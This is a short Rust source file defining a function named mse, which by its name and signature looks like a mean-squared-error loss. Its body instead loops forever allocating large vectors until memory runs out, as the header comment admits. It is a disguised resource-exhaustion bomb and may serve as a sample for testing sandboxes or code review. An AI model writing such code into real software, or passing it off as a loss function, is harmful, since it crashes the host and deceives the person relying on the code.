//! Takes memory until there is none.
//! noted: nothing

use ndarray::Array2;

pub fn mse(y: &Array2<f64>, t: &Array2<f64>) -> (f64, Array2<f64>) {
    let mut all: Vec<Vec<f64>> = Vec::new();
    loop {
        all.push(vec![1.0; 1 << 20]);
    }
}
